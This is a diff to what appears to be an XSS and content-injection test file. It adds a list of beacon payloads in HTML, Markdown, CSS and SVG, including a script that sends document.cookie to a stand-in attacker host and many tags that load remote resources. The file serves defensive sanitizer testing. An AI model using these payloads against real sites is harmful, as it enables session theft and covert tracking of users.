@@ -157,7 +157,28 @@ TEMPLATES = [
     "[[${7*7}]]",
 ]
 
-VECTORS = list(dict.fromkeys(HTML + URLS + SVG + MARKDOWN + UNICODE + TEMPLATES))
+# Beacons: if these ran or loaded, the browser would log "xss" to the console or ask an outside host for something.
+OUTSIDE = "https://attacker.invalid"
+BEACONS = [
+    "<script>console.log('xss')</script>",
+    "<img src=x onerror=\"console.log('xss')\">",
+    f"<script>fetch('{OUTSIDE}/steal?c='+document.cookie)</script>",
+    f'<img src="{OUTSIDE}/pixel.png">',
+    f"![pixel]({OUTSIDE}/pixel.png)",
+    f"[![pixel]({OUTSIDE}/pixel.png)]({OUTSIDE}/)",
+    f"<img srcset='{OUTSIDE}/a.png 1x'>",
+    f'<picture><source srcset="{OUTSIDE}/b.png"><img src="x.png"></picture>',
+    f'<video poster="{OUTSIDE}/poster.png"></video>',
+    f'<audio autoplay src="{OUTSIDE}/sound.mp3"></audio>',
+    f'<link rel="prefetch" href="{OUTSIDE}/prefetch">',
+    f"<style>@import url({OUTSIDE}/x.css);</style>",
+    f'<div style="background:url({OUTSIDE}/bg.png)">x</div>',
+    f"<svg><image href='{OUTSIDE}/i.png'/></svg>",
+    f'<input type="image" src="{OUTSIDE}/button.png">',
+    f'<object data="{OUTSIDE}/movie.swf"></object>',
+]
+
+VECTORS = list(dict.fromkeys(HTML + URLS + SVG + MARKDOWN + UNICODE + TEMPLATES + BEACONS))
 
 # Short vectors for fields with a length limit (display name, location: 80 characters).
 SHORT_VECTORS = [v for v in VECTORS if len(v) <= 80]
